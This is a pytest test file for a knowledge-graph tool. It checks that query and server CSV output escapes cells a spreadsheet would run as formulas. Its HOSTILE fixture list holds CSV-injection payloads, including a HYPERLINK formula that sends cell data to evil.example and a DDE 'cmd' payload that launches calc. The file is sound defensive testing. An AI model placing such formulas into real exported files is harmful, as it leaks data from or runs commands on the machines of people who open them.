"""No CSV the project writes holds a cell a spreadsheet would run: ``kg query --format csv`` and ``kg serve``'s
``text/csv`` results both go through kg.csvcells, one rule."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyoxigraph as ox
import pytest

from kg.csvcells import safe_cell
from kg.serve.worker import select_body

from helpers import run_kg

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-3.5", "+1e3", "42", "Belarusian Hajun", "a=b", "", "2022-12-20"])
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def test_kg_serve_csv_results_hold_no_formula() -> None:
    rows = [{"label": ox.Literal(text), "n": ox.Literal("-3", datatype=ox.NamedNode(
        "http://www.w3.org/2001/XMLSchema#integer"))} for text in HOSTILE]
    body = select_body(["label", "n"], rows, "text/csv").decode("utf-8")
    cells = list(csv.reader(io.StringIO(body)))[1:]
    assert [c[0] for c in cells] == ["'" + t for t in HOSTILE]
    assert {c[1] for c in cells} == {"-3"}


def test_kg_query_csv_holds_no_formula(seed_store_path: Path, tmp_path: Path) -> None:
    query = tmp_path / "hostile.rq"
    values = " ".join('"%s"' % t.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
                      for t in HOSTILE)
    query.write_text("# Title: Hostile cells\n# Description: Literals that look like formulas.\n"
                     f"SELECT ?cell (-3 AS ?n) WHERE {{ VALUES ?cell {{ {values} }} }}\n", encoding="utf-8")
    done = run_kg("query", query, "--format", "csv", "--store", seed_store_path, cwd=tmp_path, text=False)
    assert done.returncode == 0, done.stderr
    cells = list(csv.reader(io.StringIO(done.stdout.decode("utf-8"), newline="")))[1:]
    assert sorted(c[0] for c in cells) == sorted("'" + t for t in HOSTILE)
    assert {c[1] for c in cells} == {"-3"}
